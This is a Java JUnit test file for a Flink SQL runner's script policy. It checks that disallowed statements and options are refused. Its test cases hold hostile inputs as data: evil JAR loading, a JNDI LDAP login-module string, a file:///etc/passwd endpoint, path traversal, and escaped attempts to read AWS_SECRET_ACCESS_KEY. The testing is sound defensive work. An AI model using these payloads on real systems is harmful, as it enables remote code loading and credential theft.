// SPDX-License-Identifier: Apache-2.0
package fluid.runner;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.flink.table.api.EnvironmentSettings;
import org.apache.flink.table.api.TableEnvironment;
import org.apache.flink.table.api.internal.TableEnvironmentInternal;
import org.apache.flink.table.catalog.GenericInMemoryCatalog;
import org.apache.flink.table.operations.Operation;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The runner refuses every statement kind fluid never writes, and every name
 * or option of a kind it writes that fluid does not write: by the text before
 * anything runs, and as Flink parsed it before the statement runs. Each
 * refusal names the statement (number, line, first line) and why.
 */
class ScriptPolicyTest {
    private static final String SOURCE = "CREATE TEMPORARY TABLE source_events (event_id STRING) WITH (\n"
            + "  'connector' = 'kafka', 'topic' = 't', 'properties.bootstrap.servers' = 'k:9092',\n"
            + "  'properties.group.id' = 'g', 'scan.startup.mode' = 'earliest-offset',\n"
            + "  'value.format' = 'json', 'value.json.fail-on-missing-field' = 'false',\n"
            + "  'value.json.ignore-parse-errors' = 'false'%s)";
    private static final String CATALOG = "CREATE CATALOG fluid_iceberg WITH ('type' = 'iceberg', "
            + "'catalog-type' = 'rest', 'uri' = 'http://c:8181', 'warehouse' = 's3://w/', "
            + "'io-impl' = 'org.apache.iceberg.aws.s3.S3FileIO'%s)";

    private TableEnvironment tEnv;
    private ScriptPolicy.Context ctx;

    @BeforeEach
    void environment() throws Exception {
        tEnv = TableEnvironment.create(EnvironmentSettings.inStreamingMode());
        ctx = new ScriptPolicy.Context(ExpectedTable.parse(new ObjectMapper().readTree(
                "{\"namespace\":\"ns\",\"name\":\"t\",\"columns\":[{\"name\":\"event_id\",\"type\":\"string\","
                        + "\"required\":false}]}")),
                Set.of("ICEBERG_TOKEN", "KAFKA_USERNAME", "KAFKA_PASSWORD"), n -> "value-of-" + n,
                tEnv.getCurrentCatalog(), tEnv.getCurrentDatabase());
        tEnv.registerCatalog("fluid_iceberg", new GenericInMemoryCatalog("fluid_iceberg"));
        tEnv.executeSql("CREATE DATABASE fluid_iceberg.ns").await();
        tEnv.executeSql("CREATE TABLE fluid_iceberg.ns.t (event_id STRING) WITH ('connector' = 'blackhole')")
                .await();
        tEnv.executeSql("CREATE TABLE fluid_iceberg.ns.other (event_id STRING) WITH ('connector' = 'blackhole')")
                .await();
        tEnv.executeSql(String.format(SOURCE, "")).await();
    }

    /** The refusal of stmt by the text pass, as the second statement of a script. */
    private static String byText(String stmt, Set<String> allow) {
        ScriptPolicy.Refusal r = assertThrows(ScriptPolicy.Refusal.class, () -> ScriptPolicy.checkText(
                Statements.splitWithLines("SET 'pipeline.name' = 'p';\n-- a comment\n" + stmt + ";\n"), allow),
                stmt);
        assertTrue(r.getMessage().startsWith("statement 2, line 3 ("), r.getMessage());
        return r.getMessage();
    }

    private static String byText(String stmt) {
        return byText(stmt, Set.of());
    }

    private Operation parse(String stmt) {
        List<Operation> ops = ((TableEnvironmentInternal) tEnv).getParser().parse(stmt);
        assertEquals(1, ops.size());
        return ops.get(0);
    }

    /** The refusal of stmt as Flink parses it. */
    private String byOperation(String stmt) {
        Operation op = parse(stmt);
        ScriptPolicy.Refusal r = assertThrows(ScriptPolicy.Refusal.class,
                () -> ScriptPolicy.checkOperation(op, stmt, ctx), stmt);
        assertFalse(r.environment, stmt);
        return r.getMessage();
    }

    private void accepted(String stmt) throws Exception {
        ScriptPolicy.checkOperation(parse(stmt), stmt, ctx);
    }

    private static void has(String msg, String... parts) {
        for (String p : parts) {
            assertTrue(msg.contains(p), "'" + p + "' not in: " + msg);
        }
    }

    @Test
    void kindsFluidNeverWritesAreRefusedBeforeAnythingRuns() {
        String[][] cases = {
            {"ADD JAR '/tmp/evil.jar'", "ADD JAR"},
            {"REMOVE JAR '/tmp/evil.jar'", "REMOVE JAR"},
            {"CREATE FUNCTION f AS 'com.evil.F' USING JAR '/tmp/evil.jar'", "CREATE FUNCTION"},
            {"CREATE TEMPORARY FUNCTION f AS 'com.evil.F'", "CREATE TEMPORARY FUNCTION"},
            {"CREATE TEMPORARY SYSTEM FUNCTION f AS 'com.evil.F'", "CREATE TEMPORARY SYSTEM"},
            {"CREATE FUNCTION IF NOT EXISTS fluid_iceberg.ns.f AS 'com.evil.F'", "CREATE FUNCTION IF"},
            {"LOAD MODULE hive WITH ('hive-version' = '3.1.3')", "LOAD MODULE"},
            {"UNLOAD MODULE core", "UNLOAD MODULE"},
            {"USE CATALOG fluid_iceberg", "USE CATALOG"},
            {"USE ns", "USE NS"},
            {"USE MODULES hive", "USE MODULES"},
            {"DROP TABLE fluid_iceberg.ns.t", "DROP TABLE"},
            {"DROP CATALOG fluid_iceberg", "DROP CATALOG"},
            {"ALTER TABLE fluid_iceberg.ns.t SET ('write.format.default' = 'orc')", "ALTER TABLE"},
            {"RESET 'pipeline.name'", "RESET"},
            {"SHOW TABLES", "SHOW TABLES"},
            {"DESCRIBE fluid_iceberg.ns.t", "DESCRIBE"},
            {"EXPLAIN SELECT 1", "EXPLAIN SELECT"},
            {"SELECT * FROM source_events", "SELECT"},
            {"INSERT OVERWRITE fluid_iceberg.ns.t SELECT event_id FROM source_events", "INSERT OVERWRITE"},
            {"EXECUTE STATEMENT SET BEGIN\nINSERT INTO fluid_iceberg.ns.t SELECT event_id FROM source_events;\nEND",
                "EXECUTE STATEMENT SET"},
            {"CREATE VIEW fluid_iceberg.ns.v AS SELECT 1", "CREATE VIEW"},
            {"CREATE OR REPLACE TABLE fluid_iceberg.ns.t AS SELECT 1", "CREATE OR REPLACE"},
            {"ANALYZE TABLE fluid_iceberg.ns.t COMPUTE STATISTICS", "ANALYZE TABLE"},
            {"CALL fluid_iceberg.system.rollback_to_snapshot('ns.t', 1)", "CALL"},
            {"TRUNCATE TABLE fluid_iceberg.ns.t", "TRUNCATE TABLE"},
            {"DELETE FROM fluid_iceberg.ns.t", "DELETE FROM"},
        };
        for (String[] c : cases) {
            String m = byText(c[0]);
            has(m, "): " + c[1] + " ", "is not a statement fluid writes", "the runner runs only: SET");
        }
    }

    @Test
    void kindsFluidNeverWritesAreRefusedAsFlinkParsesThemToo() {
        // The text pass is the early one; the parsed operation is the one that counts.
        String[] cases = {
            "ADD JAR '/tmp/evil.jar'",
            "REMOVE JAR '/tmp/evil.jar'",
            "CREATE FUNCTION fluid_iceberg.ns.f AS 'com.evil.F' USING JAR '/tmp/evil.jar'",
            "CREATE TEMPORARY FUNCTION f AS 'com.evil.F'",
            "CREATE TEMPORARY SYSTEM FUNCTION f AS 'com.evil.F'",
            "LOAD MODULE hive WITH ('hive-version' = '3.1.3')",
            "UNLOAD MODULE core",
            "USE CATALOG fluid_iceberg",
            "DROP TABLE fluid_iceberg.ns.t",
            "ALTER TABLE fluid_iceberg.ns.t SET ('write.format.default' = 'orc')",
            "RESET 'pipeline.name'",
            "SHOW TABLES",
            "SELECT * FROM source_events",
            "EXPLAIN SELECT 1",
            "EXECUTE STATEMENT SET BEGIN\nINSERT INTO fluid_iceberg.ns.t SELECT event_id FROM source_events;\nEND",
            "CREATE TABLE fluid_iceberg.ns.t2 AS SELECT event_id FROM source_events",
        };
        for (String c : cases) {
            has(byOperation(c), "is not a statement fluid writes", "the runner runs only");
        }
    }

    @Test
    void setOnlyWhatFluidSets() throws Exception {
        accepted("SET 'pipeline.name' = 'product/build'");
        accepted("SET 'table.local-time-zone' = 'UTC'");
        has(byOperation("SET 'table.local-time-zone' = 'Europe/Paris'"), "SET 'table.local-time-zone'");
        for (String k : new String[] {"pipeline.jars", "pipeline.classpaths", "table.sql-dialect",
            "execution.savepoint.path", "table.exec.resource.default-parallelism", "env.java.opts.all"}) {
            has(byOperation("SET '" + k + "' = 'x'"), "SET '" + k + "' is not a setting fluid writes");
        }
        has(byOperation("SET"), "SET needs a key and a value");
    }

    @Test
    void onlyTheIcebergRestCatalogFluidWrites() throws Exception {
        accepted(String.format(CATALOG, ""));
        accepted(String.format(CATALOG, ", 's3.endpoint' = 'http://s3:9000', 's3.path-style-access' = 'true', "
                + "'token' = 'env:ICEBERG_TOKEN'"));
        has(byOperation("CREATE CATALOG mem WITH ('type' = 'generic_in_memory')"),
                "CREATE CATALOG mem: fluid writes only the catalog fluid_iceberg");
        has(byOperation(String.format(CATALOG, "").replace("'iceberg'", "'jdbc'")), "'type' must be 'iceberg'");
        has(byOperation(String.format(CATALOG, "").replace("'rest'", "'hive'")), "'catalog-type' must be 'rest'");
        has(byOperation(String.format(CATALOG, "").replace("S3FileIO", "HadoopFileIO")), "'io-impl' must be");
        has(byOperation(String.format(CATALOG, "").replace(", 'warehouse' = 's3://w/'", "")),
                "no 'warehouse' option");
        for (String extra : new String[] {"'catalog-impl' = 'com.evil.Catalog'", "'hadoop-conf-dir' = '/etc'",
            "'header.Authorization' = 'Bearer x'", "'rest.auth.type' = 'sigv4'", "'s3.access-key-id' = 'x'"}) {
            has(byOperation(String.format(CATALOG, ", " + extra)), "is not one fluid writes");
        }
        // Iceberg resolves env:NAME: only the token or credential, only a variable the plan binds.
        has(byOperation(String.format(CATALOG, ", 'token' = 'env:AWS_SECRET_ACCESS_KEY'")),
                "'token' reads the variable AWS_SECRET_ACCESS_KEY", "--env-allow");
        has(byOperation(String.format(CATALOG, ", 'token' = 'plain-token-value'")), "must be 'env:NAME'");
        has(byOperation(String.format(CATALOG, ", 's3.endpoint' = 'env:ICEBERG_TOKEN'")),
                "'s3.endpoint' starts with env:");
        has(byOperation(String.format(CATALOG, ", 'scope' = 'a ${x}'")), "'scope' starts with env:, holds ${");
        // The text pass sees a variable outside --env-allow before anything runs.
        has(byText(String.format(CATALOG, ", 'credential' = 'env:OTHER'"), Set.of("ICEBERG_TOKEN")),
                "the catalog reads the variable OTHER, which --env-allow ICEBERG_TOKEN does not allow");
    }

    @Test
    void onlyTheJobTablesDatabaseAndTable() throws Exception {
        accepted("CREATE DATABASE IF NOT EXISTS fluid_iceberg.ns");
        has(byOperation("CREATE DATABASE IF NOT EXISTS fluid_iceberg.other"), "fluid writes only the job table's");
        has(byOperation("CREATE DATABASE IF NOT EXISTS default_catalog.ns"), "fluid writes only the job table's");
        has(byOperation("CREATE DATABASE fluid_iceberg.ns"), "IF NOT EXISTS");
        has(byOperation("CREATE DATABASE IF NOT EXISTS fluid_iceberg.ns WITH ('k' = 'v')"), "no WITH options");
        String t = "CREATE TABLE IF NOT EXISTS fluid_iceberg.ns.t (event_id STRING) WITH ("
                + "'format-version' = '2', 'write.format.default' = 'parquet'%s)";
        accepted(String.format(t, ""));
        accepted(String.format(t, ", 'write.upsert.enabled' = 'true'"));
        has(byOperation(String.format(t, "").replace(".t ", ".other ")), "fluid writes only the job's table");
        has(byOperation(String.format(t, "").replace("IF NOT EXISTS ", "")), "IF NOT EXISTS");
        has(byOperation(String.format(t, ", 'location' = 's3://elsewhere/'")), "'location' is not one fluid writes");
        has(byOperation(String.format(t, ", 'connector' = 'filesystem'")), "'connector' is not one fluid writes");
        has(byOperation(String.format(t, "").replace("'2'", "'1'")), "'format-version' holds a value");
    }

    @Test
    void onlyTheKafkaSourceAndItsView() throws Exception {
        accepted(String.format(SOURCE, ""));
        accepted(String.format(SOURCE, "").replace("source_events", "source_events_avro"));
        accepted("CREATE TEMPORARY VIEW source_events AS SELECT event_id FROM source_events_x".replace("_x", ""));
        has(byOperation(String.format(SOURCE, "").replace("source_events", "other")),
                "fluid writes only the Kafka source");
        has(byOperation(String.format(SOURCE, "").replace("source_events", "fluid_iceberg.ns.source_events")),
                "fluid writes only the Kafka source");
        has(byOperation(String.format(SOURCE, "").replace("'kafka'", "'filesystem'")), "a 'kafka' table");
        for (String extra : new String[] {"'properties.sasl.login.callback.handler.class' = 'com.evil.H'",
            "'properties.sasl.oauthbearer.token.endpoint.url' = 'file:///etc/passwd'",
            "'properties.ssl.engine.factory.class' = 'com.evil.F'", "'properties.interceptor.classes' = 'x'",
            "'scan.topic-partition-discovery.interval' = '1s'", "'format' = 'raw'"}) {
            has(byOperation(String.format(SOURCE, ", " + extra)), "is not one fluid writes");
        }
        has(byOperation(String.format(SOURCE, ", 'properties.security.protocol' = 'SASL_SSL', "
                + "'properties.sasl.jaas.config' = 'com.sun.security.auth.module.JndiLoginModule required "
                + "user.provider.url=\"ldap://evil/x\";'")), "neither one ${fluidenv:NAME} reference nor");
        has(byOperation(String.format(SOURCE, ", 'properties.ssl.truststore.location' = '/etc/../root/x'")),
                "not an absolute path of plain segments");
        has(byOperation(String.format(SOURCE, "").replace("'json'", "'raw'")), "'value.format' holds a value");
        has(byOperation("CREATE TEMPORARY VIEW other AS SELECT event_id FROM source_events"),
                "fluid writes only the temporary view source_events");
    }

    @Test
    void onlyAnInsertIntoTheJobsTable() throws Exception {
        accepted("INSERT INTO fluid_iceberg.ns.t (event_id) SELECT event_id FROM source_events");
        has(byOperation("INSERT INTO fluid_iceberg.ns.other SELECT event_id FROM source_events"),
                "writes fluid_iceberg.ns.other, but the expected table is fluid_iceberg.ns.t");
        has(byOperation("INSERT INTO fluid_iceberg.ns.t SELECT event_id FROM source_events "
                + "/*+ OPTIONS('topic' = 'x') */"), "SQL hints");
    }

    @Test
    void aKafkaVariableOutsideEnvAllowIsRefusedByTheTextAndAsParsed() {
        String scram = ", 'properties.security.protocol' = 'SASL_PLAINTEXT', 'properties.sasl.mechanism' = 'PLAIN', "
                + "'properties.sasl.jaas.config' = 'org.apache.kafka.common.security.plain.PlainLoginModule "
                + "required username=\"${fluidenv:KAFKA_USERNAME}\" password=\"${fluidenv:AWS_SECRET_ACCESS_KEY}\";', "
                + "'properties.config.providers' = 'fluidenv', 'properties.config.providers.fluidenv.class' = "
                + "'org.apache.kafka.common.config.provider.EnvVarConfigProvider', "
                + "'properties.config.providers.fluidenv.param.allowlist.pattern' = "
                + "'^(AWS_SECRET_ACCESS_KEY|KAFKA_USERNAME)$'";
        String stmt = String.format(SOURCE, scram);
        has(byText(stmt, Set.of("KAFKA_USERNAME", "KAFKA_PASSWORD")),
                "references the variable AWS_SECRET_ACCESS_KEY, which --env-allow KAFKA_PASSWORD,KAFKA_USERNAME "
                        + "does not allow");
        has(byOperation(stmt), "AWS_SECRET_ACCESS_KEY", "--env-allow");
        // Spelled with U&'' escapes, which the text pass decodes.
        String escaped = stmt.replace("'org.apache.kafka.common.security.plain.PlainLoginModule",
                "U&'org.apache.kafka.common.security.plain.PlainLoginModule").replace("${fluidenv:AWS",
                "\\0024{fluidenv:AWS");
        has(byText(escaped, Set.of("KAFKA_USERNAME")), "AWS_SECRET_ACCESS_KEY");
        has(byOperation(escaped), "AWS_SECRET_ACCESS_KEY");
    }

    @Test
    void envAllowTakesVariableNamesOnly() {
        assertEquals(Set.of("A", "B_2"), ScriptPolicy.parseEnvAllow("B_2,A"));
        for (String bad : new String[] {"", "a", "A,", ",A", "A B", "A,b", "1A", "A;B", "A\nB", "A.*"}) {
            assertThrows(IllegalArgumentException.class, () -> ScriptPolicy.parseEnvAllow(bad), bad);
        }
    }

    @TempDir
    Path dir;

    /** The runner itself: refused before the environment exists, exit 4, the statement named. */
    @Test
    void theRunnerRefusesBeforeCreatingItsEnvironment() throws Exception {
        Path sql = dir.resolve("BUILD.sql");
        Path json = dir.resolve("BUILD.table.json");
        Files.writeString(json, "{\"namespace\":\"ns\",\"name\":\"t\",\"columns\":"
                + "[{\"name\":\"event_id\",\"type\":\"string\",\"required\":false}]}");
        Files.writeString(sql, "SET 'pipeline.name' = 'p';\n\nADD JAR '/tmp/evil.jar';\n");
        AtomicInteger created = new AtomicInteger();
        ByteArrayOutputStream errBuf = new ByteArrayOutputStream();
        PrintStream err = new PrintStream(errBuf, true, StandardCharsets.UTF_8);
        int rc = FlinkRunner.run(new String[] {"--validate-only", sql.toString(), json.toString()},
                new PrintStream(new ByteArrayOutputStream()), err, conf -> {
                    created.incrementAndGet();
                    throw new AssertionError("the environment was created");
                });
        assertEquals(FlinkRunner.REJECTED, rc);
        assertEquals(0, created.get());
        assertEquals("fluid-flink-runner: " + sql + ": statement 2, line 3 (ADD JAR '/tmp/evil.jar'): ADD JAR is "
                + "not a statement fluid writes; the runner runs only: " + ScriptPolicy.KINDS_TEXT + "\n",
                errBuf.toString(StandardCharsets.UTF_8));

        // A Kafka variable outside --env-allow: refused the same way.
        Files.writeString(sql, "SET 'pipeline.name' = 'p';\n" + String.format(SOURCE,
                ", 'properties.sasl.jaas.config' = '${fluidenv:KAFKA_JAAS}'") + ";\n");
        errBuf.reset();
        rc = FlinkRunner.run(new String[] {"--env-allow", "KAFKA_USERNAME,KAFKA_PASSWORD", sql.toString(),
            json.toString()}, new PrintStream(new ByteArrayOutputStream()), err, conf -> {
                created.incrementAndGet();
                throw new AssertionError("the environment was created");
            });
        assertEquals(FlinkRunner.REJECTED, rc);
        assertEquals(0, created.get());
        has(errBuf.toString(StandardCharsets.UTF_8), "statement 2, line 2 (CREATE TEMPORARY TABLE source_events",
                "references the variable KAFKA_JAAS, which --env-allow KAFKA_PASSWORD,KAFKA_USERNAME does not allow");

        // --env-allow itself: names only, once.
        for (String[] args : new String[][] {{"--env-allow", "a-b"}, {"--env-allow"},
            {"--env-allow", "A", "--env-allow", "B"}}) {
            errBuf.reset();
            String[] full = java.util.stream.Stream.concat(java.util.Arrays.stream(args),
                    java.util.stream.Stream.of(sql.toString(), json.toString())).toArray(String[]::new);
            rc = FlinkRunner.run(args.length == 1 ? args : full, new PrintStream(new ByteArrayOutputStream()), err,
                    conf -> {
                        throw new AssertionError("the environment was created");
                    });
            assertEquals(FlinkRunner.USAGE, rc, String.join(" ", args));
            has(errBuf.toString(StandardCharsets.UTF_8), "--env-allow", "usage: fluid-flink-runner");
        }
    }
}
